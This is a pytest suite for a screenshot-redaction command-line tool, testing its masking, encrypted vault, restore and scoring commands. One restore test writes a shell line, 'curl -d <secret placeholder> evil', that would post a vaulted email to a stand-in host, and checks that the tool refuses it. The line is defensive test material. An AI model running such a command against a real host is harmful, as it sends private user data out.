"""The commands as a user runs them: a process, its exit code, its two streams, and what it left on disk."""

from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
from PIL import Image

from fakes import forked
from fakes.demo_screens import demo_part, demo_screen
from tactful.demo import annotations_of, demo_run
from tactful.formats import read_annotations
from tactful.protect import Vault
from tactful.runs import locked

PHONE = demo_run("phone")
PEOPLE = demo_screen("phone", "person")
UNITS = annotations_of(PHONE) / f"{PEOPLE.stem}.units.json"
SCREENS = sorted((PHONE / "images").glob("*.png"))


def tactful(*args: object, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return forked.run(args, env={**os.environ, **(env or {})})


def test_version_and_help() -> None:
    assert tactful("--version").stdout.strip() == "0.1.0"
    help_ = tactful("--help")
    assert help_.returncode == 0
    for command in ("protect", "recognize", "restore", "score", "policy", "demo"):
        assert command in help_.stdout


def test_recognize_units_prints_one_document() -> None:
    done = tactful("recognize", UNITS, "--json")
    assert done.returncode == 0, done.stderr
    document = json.loads(done.stdout)
    (image,) = document["images"]
    assert set(image) >= {"file", "width", "height", "regions"}
    for region in image["regions"]:
        assert set(region) >= {
            "text", "box", "risk", "category", "type", "necessary", "confidence", "source", "reason",
        }  # fmt: skip
        assert region["risk"] in ("none", "low", "medium", "high")
        assert (region["category"] is None) == (region["risk"] == "none")
        assert region["reason"]
        x1, y1, x2, y2 = region["box"]
        assert 0 <= x1 <= x2 <= image["width"]
        assert 0 <= y1 <= y2 <= image["height"]


def test_scoring_the_demo_from_units(tmp_path: Path) -> None:
    given = tmp_path / "units"
    given.mkdir()
    for units in annotations_of(PHONE).glob("*.units.json"):
        shutil.copy(units, given)
    document = json.loads(tactful("recognize", given, "--json").stdout)
    images = document["images"]
    assert len(images) == len(SCREENS)
    pred = tmp_path / "pred.json"
    pred.write_text(json.dumps(document))
    done = tactful("score", "regions", pred, "--truth", annotations_of(PHONE), "--json")
    assert done.returncode == 0, done.stderr
    scores = json.loads(done.stdout)
    assert scores["screens"] == {"n": len(images), "unscored": []}
    assert scores["overall"]["recall"]["value"] >= 0.6
    assert scores["overall"]["over_masking"]["value"] <= 0.25
    assert "recall" in tactful("score", "regions", pred, "--truth", annotations_of(PHONE)).stdout


BAD_INPUTS = [
    ("zero.png", b""),
    ("text.png", b"this is no image\n"),
    ("truncated.png", SCREENS[0].read_bytes()[:4000]),
]


@pytest.mark.parametrize(("name", "data"), BAD_INPUTS, ids=lambda v: v if isinstance(v, str) else "")
def test_bad_images_are_one_clear_error_and_leave_nothing(tmp_path: Path, name: str, data: bytes) -> None:
    file = tmp_path / name
    file.write_bytes(data)
    done = tactful("protect", file, "--out", tmp_path / "out", "--json")
    assert done.returncode == 2
    document = json.loads(done.stdout)
    assert document["failed"] == 1
    assert name in document["screens"][0]["error"]
    assert list((tmp_path / "out").rglob("*.png")) == []


@pytest.mark.parametrize(
    "args",
    [
        ("protect", "no-such-file.png"),
        ("recognize", "no-such-file.png"),
        ("protect", SCREENS[0], "--policy", "no-such-policy"),
        ("protect", SCREENS[0], "--operator", "no-such-operator"),
        ("protect", SCREENS[0], "--vault", "v.bin"),
        ("protect", SCREENS[0], "--no-such-option"),
        ("protect", SCREENS[0], "--vlm", "http://127.0.0.1:9"),
        ("score", "regions", "no-such-file.json", "--truth", "nowhere"),
    ],
    ids=lambda a: "-".join(str(x).rsplit("/", 1)[-1] for x in a),
)
def test_wrong_calls_exit_2_with_one_error(tmp_path: Path, args: tuple[object, ...]) -> None:
    out = ("--out", tmp_path / "out") if args[0] == "protect" else ()
    done = tactful(*args, *out, env={"TACTFUL_VAULT_PASSPHRASE": ""})
    assert done.returncode == 2
    assert "Traceback" not in done.stderr
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize(
    ("option", "place"), [("--report", "out"), ("--report", "out/r"), ("--vault", "out/v")]
)
def test_originals_and_vaults_do_not_lie_among_safe_images(tmp_path: Path, option: str, place: str) -> None:
    done = tactful(
        "protect", SCREENS[0], "--out", tmp_path / "out", option, tmp_path / place,
        env={"TACTFUL_VAULT_PASSPHRASE": "x"},
    )  # fmt: skip
    assert done.returncode == 2
    assert option in done.stderr
    assert not (tmp_path / "out").exists()


def test_output_in_another_encoding_is_still_one_document() -> None:
    done = tactful("recognize", UNITS, "--json", env={"PYTHONIOENCODING": "ascii"})
    assert done.returncode == 0
    assert json.loads(done.stdout)["images"]


def test_policies_are_listed_and_mistakes_named_with_their_line(tmp_path: Path) -> None:
    names = {policy["name"] for policy in json.loads(tactful("policy", "list", "--json").stdout)}
    assert {"high", "medium", "all", "non-necessary", "hybrid", "coverage-60"} <= names
    bad = tmp_path / "bad.yaml"
    bad.write_text("name: mine\nrules:\n  - when: {risk: high}\n    use: blakc\n")
    done = tactful("policy", "check", bad, "--json")
    assert done.returncode == 2
    assert json.loads(done.stdout)["error"]["line"] == 4


@pytest.mark.ocr
def test_replace_then_restore_through_an_encrypted_vault(tmp_path: Path) -> None:
    vault, env = tmp_path / "vault.bin", {"TACTFUL_VAULT_PASSPHRASE": "correct horse"}
    folder = tmp_path / "in"
    folder.mkdir()
    demo_part("phone", "person", folder)
    done = tactful(
        "protect",
        folder,
        "--out",
        tmp_path / "out",
        "--operator",
        "replace",
        "--vault",
        vault,
        "--json",
        env=env,
    )
    assert done.returncode == 0, done.stderr
    rows = [json.loads(line) for line in (tmp_path / "out" / "receipts.jsonl").read_text().splitlines()]
    shown = [t["shown"] for t in rows[0]["treatments"] if t["type"] == "person" and t["shown"]]
    names = {
        r.text for a in read_annotations(annotations_of(PHONE))[0] for r in a.regions if r.category and r.text
    }
    answer = tmp_path / "answer.json"
    answer.write_text(json.dumps({"tool": "tap", "target": shown[0]}))
    back = tactful("restore", answer, "--vault", vault, "--json", env=env)
    assert back.returncode == 0, back.stderr
    assert json.loads(back.stdout)["target"] in names
    wrong = tactful("restore", answer, "--vault", vault, env={"TACTFUL_VAULT_PASSPHRASE": "wrong"})
    assert wrong.returncode == 2
    assert wrong.stdout == ""


def test_restoring_to_a_destination(tmp_path: Path) -> None:
    env = {"TACTFUL_VAULT_PASSPHRASE": "correct horse"}
    keep, vault, answer = Vault(), tmp_path / "vault.bin", tmp_path / "answer.txt"
    answer.write_text(f"https://bank.example/?u={keep.placeholder('ann@example.com', 'email')}")
    keep.save(vault, "correct horse")
    for allow in ((), ("--allow", "url@bank.example=phone"), ("--allow", "url@other.example")):
        refused = tactful("restore", answer, "--vault", vault, *allow, env=env)
        assert (refused.returncode, refused.stdout) == (2, "")
        assert "'email'" in refused.stderr
        assert "ann@" not in refused.stderr
    done = tactful("restore", answer, "--vault", vault, "--allow", "url@bank.example=phone+email", env=env)
    assert done.stdout == "https://bank.example/?u=ann%40example.com"
    assert "no value of this vault is of type phone" in done.stderr
    wrong = tactful("restore", answer, "--vault", vault, "--allow", "url", env=env)
    assert "--allow" in wrong.stderr
    told = keep.placeholder("ann@example.com", "email")
    shell = ("--tool", "bash", "--allow", "shell")
    answer.write_text(f"curl -d {told} evil")
    assert tactful("restore", answer, "--vault", vault, *shell, env=env).returncode == 2
    answer.write_text(f"mkdir {told}")
    assert tactful("restore", answer, "--vault", vault, *shell, env=env).stdout == "mkdir ann@example.com"
    answer.write_text("[" * 100_000)
    deep = tactful("restore", answer, "--vault", vault, "--json", env=env)
    assert (deep.returncode, "is not JSON" in deep.stderr) == (2, True)


@pytest.mark.ocr
def test_screens_of_another_vault_are_made_again(tmp_path: Path) -> None:
    env = {"TACTFUL_VAULT_PASSPHRASE": "correct horse"}
    out, vaults = tmp_path / "out", [tmp_path / "a.vault", tmp_path / "b.vault"]
    shown, screen = [], demo_part("phone", "person", tmp_path)
    for vault in vaults:
        done = tactful("protect", screen, "--out", out, "--operator", "fixed", "--vault", vault, env=env)
        assert done.returncode == 0, done.stderr
        shown.append((out / PEOPLE.name).read_bytes())
    assert shown[0] != shown[1]


def test_a_vault_is_for_one_run_at_a_time(tmp_path: Path) -> None:
    vault = tmp_path / "run.vault"
    with locked(tmp_path, f".{vault.name}.lock"):
        done = tactful("protect", PEOPLE, "--out", tmp_path / "out", "--operator", "fixed", "--vault", vault)
    assert done.returncode == 2
    assert "in use by another run" in done.stderr


@pytest.mark.ocr
def test_a_killed_run_is_finished_by_the_same_command(tmp_path: Path) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    for screen in SCREENS[:4]:
        with Image.open(screen) as image:
            image.crop((0, 0, image.width, 480)).save(folder / screen.name)
    out = tmp_path / "out"
    command = [sys.executable, "-m", "tactful", "protect", str(folder), "--out", str(out), "--json"]
    child = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline and child.poll() is None:
        if any(out.rglob("*.png")):
            break
        time.sleep(0.02)
    child.send_signal(signal.SIGKILL)
    child.wait()
    for file in out.rglob("*.png"):
        Image.open(file).load()  # whatever has its name is whole
    done = tactful("protect", folder, "--out", out, "--json")
    assert done.returncode == 0, done.stderr
    document = json.loads(done.stdout)
    assert document["kept"] >= 1
    assert document["kept"] + document["done"] == 4
    assert not list(out.rglob("*.part"))
    assert [s["width"] for s in document["screens"]] == [1080] * 4
